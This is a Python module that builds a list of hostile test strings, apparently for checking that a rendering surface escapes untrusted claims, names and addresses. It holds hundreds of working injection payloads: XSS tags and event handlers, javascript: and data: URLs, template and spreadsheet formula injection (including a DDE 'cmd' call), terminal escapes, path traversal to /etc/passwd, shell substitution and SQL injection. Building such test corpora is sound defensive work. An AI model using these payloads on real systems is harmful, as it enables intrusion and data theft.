"""Text that means harm: what a claim, a name or an address may hold that some surface would obey.

All of it is made here by rule: what is to be run, times the ways to have it run, times the ways out of where it
stands. Whatever gets through sets `pwned`, asks for a dialog, changes the title or asks a server on port 9.
"""

from itertools import product

ACTS = ("window.pwned=1", "alert(1)", "document.title='pwned'", "fetch('http://127.0.0.1:9/')")
FAR = "http://127.0.0.1:9/x"

TAGS = """
<script>{js}</script>|<script src={far}></script>|<script type=module>{js}</script>|<script >{js}</script >|<SCRIPT>{js}</SCRIPT>
<script/x>{js}</script>|<scr<script>ipt>{js}</scr</script>ipt>|<script>{js}//|<script⏎>{js}</script>|<<script>{js}//<</script>
<img src=x onerror="{js}">|<img src=x onerror={js}>|<img src='x' onerror='{js}'/>|<img/src=x/onerror={js}>|<IMG SRC=x ONERROR="{js}">
<img src=x oneonerrorrror="{js}">|<img src="{far}">|<img srcset="{far}">|<image href="{far}" onerror="{js}">|<img src=x onerror="{js}"
<svg onload="{js}">|<svg><script>{js}</script></svg>|<svg/onload={js}>|<svg><animate onbegin="{js}" attributeName=x dur=1s>
<svg><set attributeName=href to="javascript:{js}">|<svg><a href="javascript:{js}"><text y=20>x</text></a></svg>
<svg><foreignObject><img src=x onerror="{js}"></foreignObject></svg>|<svg><use href="data:image/svg+xml,<svg onload='{js}'/>#x"></svg>
<svg><style><img src=x onerror="{js}"></style></svg>|<math><mtext><img src=x onerror="{js}"></mtext></math>
<math href="javascript:{js}">x</math>|<body onload="{js}">|<body onpageshow="{js}">|<html onclick="{js}">|<iframe src="javascript:{js}">
<iframe srcdoc="<script>{js}</script>">|<iframe src="{far}">|<object data="javascript:{js}">|<object data="{far}">|<embed src="{far}">
<embed src="javascript:{js}">|<link rel=stylesheet href="{far}">|<link rel=prefetch href="{far}">|<base href="{far}">
<meta http-equiv=refresh content="0;url={far}">|<meta http-equiv=refresh content="0;url=javascript:{js}">|<form action="{far}"><button>x</button></form>
<form><button formaction="javascript:{js}">x</button></form>|<input autofocus onfocus="{js}">|<select autofocus onfocus="{js}"></select>
<textarea autofocus onfocus="{js}"></textarea>|<details open ontoggle="{js}">|<video src=x onerror="{js}">|<audio src=x onerror="{js}">
<video><source onerror="{js}" src=x></video>|<video poster="{far}">|<marquee onstart="{js}">x</marquee>|<a href="javascript:{js}">x</a>
<a href=x onclick="{js}">x</a>|<a href="{far}" ping="{far}">x</a>|<p onmouseover="{js}">x</p>|<div style="background:url({far})">x</div>
<style>@import url({far});</style>|<style>body{{background:url({far})}}</style>|<style onload="{js}"></style>|<xmp><script>{js}</script></xmp>
<noscript><p title="</noscript><img src=x onerror='{js}'>">|<template><script>{js}</script></template>|<plaintext><script>{js}
<!--<script>{js}</script>|<!--><script>{js}</script>|<!--><img src=x onerror="{js}">-->|--><script>{js}</script>|<![CDATA[<script>{js}</script>]]>
<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">{js}</x:script>|<isindex action=javascript:{js}>|<table background="{far}">
<div popover id=p onbeforetoggle="{js}"></div>|<button popovertarget=p>x</button>|<dialog open onclose="{js}">|<applet code="{far}">|<frameset onload="{js}">
<portal src="{far}">|<bgsound src="{far}">|<layer src="{far}">|<keygen autofocus onfocus="{js}">|<x contenteditable onblur="{js}">x</x>
<p id=pwned>x</p>|<form id=document>x</form>|<img name=getElementById>|<a id=vega href=x>x</a>|<slot onslotchange="{js}">
""".strip()

OUT = """
</script>|</title>|</style>|</textarea>|</noscript>|</xmp>|</template>|</table>|</td></tr></table>|</pre>|</code>|</svg>|</p></div>|</select>|-->|]]>|"|'|">|'>|"/>|`|\\">|\\'>
""".strip()

HANDLERS = """
abort|animationend|auxclick|beforeinput|beforematch|blur|canplay|click|contextmenu|copy|cuechange|dblclick
dragstart|error|focus|focusin|hashchange|input|keydown|load|message|mouseenter|mouseover|mousewheel|pageshow
paste|pointerdown|pointerrawupdate|popstate|resize|scroll|scrollend|search|select|show|submit|toggle
touchstart|transitionend|unload|wheel|webkitanimationend
""".strip()

JAVASCRIPT = """
";{js};//|';{js};//|`;{js};//|${{{js}}}|\\";{js};//|\\';{js};//|</script><script>{js}//|⏎{js}//|*/{js}/*|"-{js}-"|'-{js}-'|"+{js}+"|\u2028{js}//|\u2029{js}//
\\u003cscript\\u003e{js}\\u003c/script\\u003e|"}}]}}</script><script>{js}</script>|\\|\\\\|\\"|"\\|'\\|{{"__proto__":{{"pwned":1}}}}|constructor.constructor('{js}')()
{{"url":"{far}"}}|{{"expr":"{js}"}}|{{"signal":"{js}"}}|{{"$ref":"{far}"}}|NaN|Infinity|-0|1e999|null|undefined|true|[object Object]|__proto__|toString|constructor|hasOwnProperty
""".strip()

TEMPLATES = """
{{{{7*7}}}}|{{{{constructor.constructor('{js}')()}}}}|{{{{{{{js}}}}}}}|{{% import os %}}{{{{os.system('x')}}}}|{{{{ config }}}}|${{7*7}}|#{{7*7}}|<%= 7*7 %>|@{{7*7}}|[[7*7]]|{{{{=<% %>=}}}}<%{js}%>
datum.x|datum['x']|datum.constructor.constructor('{js}')()|format(datum.x,'{js}')|image:{far}|time('x')|{{"signal":"datum"}}|%(claim)s|{{0}}|{{claim}}|{{0.__class__.__mro__}}|%s%n%x|$HOME|`id`|$(id)|%TEMP%
{{claim!r}}|$\\alpha$|$$\\href{{javascript:{js}}}{{x}}$$|\\(x\\)|\\href{{javascript:{js}}}{{x}}|%matplotlib inline|!rm -rf x|?fd|%%html
""".strip()

STYLES = """
;background:url({far})|}}body{{background:url({far})}}|expression({js})|behavior:url({far})|red;position:fixed;inset:0|url(javascript:{js})|@import '{far}';|-moz-binding:url({far})|/*|*/|\\3c script\\3e
""".strip()

ADDRESSES = """
javascript:{js}|JaVaScRiPt:{js}|java\tscript:{js}|java⏎script:{js}| javascript:{js}|\x01javascript:{js}|javascript&colon;{js}|javascript&#58;{js}|&#106;avascript:{js}|javascript://example.org/%0a{js}|jav&#x0A;ascript:{js}
vbscript:{js}|VBScript:{js}|livescript:{js}|data:text/html,<script>{js}</script>|data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==|DATA:text/html,{js}|data:image/svg+xml,<svg onload="{js}"/>|data:application/xhtml+xml,{js}|blob:null/x
file:///etc/passwd|//127.0.0.1:9/x|\\\\127.0.0.1\\x|/\\127.0.0.1:9/|http:\\\\127.0.0.1:9|https:{js}|http://x" onclick="{js}|http://x'onclick='{js}|http://x<script>{js}</script>|http://x#<img src=x onerror={js}>|https://user:pw@127.0.0.1:9/|view-source:{far}
jar:{far}!/x|about:blank|chrome://settings|mailto:a@example.org|tel:1|intent://x#Intent;end|ms-msdt:/id|smb://x|feed:javascript:{js}|x-javascript:{js}|http://[::1|http://%00|http://xn--|https://аррӏе.example/
""".strip()

FORMULAS = """
=1+1|+1+1|-1+1|@SUM(1)|\t=1+1|\r=1+1|=cmd|' /C calc'!A0|=HYPERLINK("{far}","x")|=IMPORTXML("{far}","//x")|=WEBSERVICE("{far}")|'=1+1|''=1+1|"=1+1|⏎=1+1| =1+1|＝1+1|＋1|－1|＠x|=1+1;=1+1|a,=1+1|a;=1+1|a\t=1+1|a⏎=1+1|-2+3+cmd|%0A=1+1|=DDE("x")|+cmd|-|+|=|@|'|\u200b=1+1|\u00a0=1+1
""".strip()

MARKDOWN = """
[x](javascript:{js})|[x]( javascript:{js} "t")|[x](<javascript:{js}>)|[x][y]⏎⏎[y]: javascript:{js}|![x]({far})|![x](javascript:{js})|<javascript:{js}>|[x](data:text/html,{js})|[x](java&#10;script:{js})|[x](&#x6A;avascript:{js})
# heading|Title⏎=====|> quote|- item|1. item|***|---|```⏎code|~~~|`code`|**bold**|_em_|~~gone~~|a | b⏎--|--⏎1 | 2|<b>bold</b>|<details><summary>x</summary>|[^1]⏎⏎[^1]: x|- [ ] todo|a  ⏎b|\\*|&lt;script&gt;|&amp;lt;|&#60;script&#62;
<https://example.org/"onmouseover="{js}>|[![x]({far})]({far})|[x](//127.0.0.1:9)|[x](\\\\127.0.0.1)|](javascript:{js})|[a](b "c\\" onmouseover=\\"{js}")|:::{{.x}}|{{: onclick="{js}"}}|[//]: # (x)|<!-- x -->|\\[x\\](y)|@import x|[TOC]|:smile:
""".strip()

TERMINAL = """
\x1b[31mred|\x1b[2J|\x1b]0;pwned\x07|\x1b]8;;{far}\x07x\x1b]8;;\x07|\x1b]52;c;cHduZWQ=\x07|\x1bP+q\x1b\\|\x1b[6n|\x1b[?1049h|\x9b31m|\x9d0;x\x9c|\x07|\x08\x08\x08|a\rb|\x0b|\x0c|\x7f|\x00|a\x00b|\x1b|\x1b[|\x1bc|\x1b[1;1H|\x1b[8m|\x85|\x90|\x1b_x\x1b\\|\x1b]1337;File=:x\x07
""".strip()

UNICODE = """
\u202egnp.exe|\u202dx|\u2066x\u2069|\u2067x|\u200fx|\u200ex|\u061cx|\u202a\u202b\u202c|Z\u0351\u036b\u0343\u0313\u0310\u0301\u0363A\u0314\u030b\u0308|{zalgo}|👨‍👩‍👧‍👦|🏳️‍🌈|👍🏿|🇺🇳|🇦|e\u0301|é|ﬁ|ﷺ|ﷺﷺﷺ|שלום|مرحبا بالعالم|العربية English עברית|漢字かな|ไทย|नमस्ते
\ufeffx|x\ufeff|\u200b|a\u200bb|a\u200cb|a\u200db|a\u00adb|\u2060|\u180e|\u3164|\u115f|\ufffe|\uffff|\ufdd0|\ufffd|\ud800|\udfff|a\ud83d|\udc00b|\U0010ffff|\U000e0041\U000e0042|\u2028|\u2029|a\u2028b|\u0085|\u2424|␤|\u00a0|\u2003|\u3000|İ|ı|ẞ|ǅ|ſ|K|Å|ª|½|Ⅷ|㏒|𝕒𝕓𝕔|ａｂｃ|＜script＞{js}＜/script＞|‹script›|ʺonclick=|＂onclick={js}|﹤img src=x onerror={js}﹥|%3Cscript%3E{js}%3C/script%3E|+ADw-script+AD4-{js}+ADw-/script+AD4-|¼script¾{js}¼/script¾|\xc0\xbcscript|{long}|{deep}
""".strip()

FILES = """
../../etc/passwd|..\\..\\windows|/etc/passwd|C:\\x|con|NUL|aux.csv|a/../../b|%2e%2e%2f|~/x|.|..|file.csv\x00.png|*|?|a:b|-rf|--help|-|a b|'a'|"a"|$(x)|;ls|&& ls|| ls|`ls`|<x|>x|\\n|{longname}
""".strip()

NOTATION = """
key: value|- item|!!python/object:x|&a *a|%YAML 1.2|\"\"\"x\"\"\"|'''x'''|[table]|[[table]]|a = 1|# comment|; comment|<<<<<<< HEAD|=======|>>>>>>> x|||||||| x|claim_id,claim,claimant|","|"",""|"|""|\"\"\"|a"b|"a|a"|,|;|\t|⏎|\r⏎|a\r⏎b|,,,,,,,,,,,,|x,"y|e-0|1/2|10:30|TRUE|2025-03-10|4e12|007|1,000|1.000,5|#REF!|#N/A|nan|NaN|None|NaT|N/A|NULL|<NA>|-inf|0x1F|1_000|٣|' OR 1=1 --|'; DROP TABLE claims; --|" OR ""="|admin'--|(&(x=*))|*)(uid=*
""".strip()


def _split(block: str) -> list[str]:
    """Split a block at its bars and line ends; ⏎ stands for a line break in a text."""
    return [one.replace("⏎", "\n") for line in block.split("\n") for one in line.split("|") if one]


def _filled(text: str, act: str) -> str:
    zalgo = "z" + "\u0335\u0347\u0321" * 60
    more = {"zalgo": zalgo, "long": "W" * 5_000, "deep": "<div>" * 400, "longname": "n" * 400}
    try:
        return text.format(js=act, far=FAR, **more)
    except (IndexError, KeyError, ValueError, AttributeError):
        return text.replace("{js}", act).replace("{far}", FAR)


def _all() -> list[str]:
    found: list[str] = []
    blocks = (
        TAGS, JAVASCRIPT, TEMPLATES, STYLES, ADDRESSES, FORMULAS, MARKDOWN, TERMINAL, UNICODE, FILES, NOTATION,
    )  # fmt: skip
    for block in blocks:
        found += [_filled(text, ACTS[at % len(ACTS)]) for at, text in enumerate(_split(block))]
    for at, (way_out, run) in enumerate(
        product(_split(OUT), ("<script>{js}</script>", "<img src=x onerror={js}>", "<svg onload={js}>"))
    ):
        found.append(way_out + _filled(run, ACTS[at % len(ACTS)]))
    for at, (quote, handler) in enumerate(product(('"', "'", ""), _split(HANDLERS))):
        found.append(f"x{quote} on{handler}={quote}{ACTS[at % len(ACTS)]}{quote} tabindex=1 x={quote}")
    return list(dict.fromkeys(found))


HOSTILE = _all()
"""Every such text, each once."""
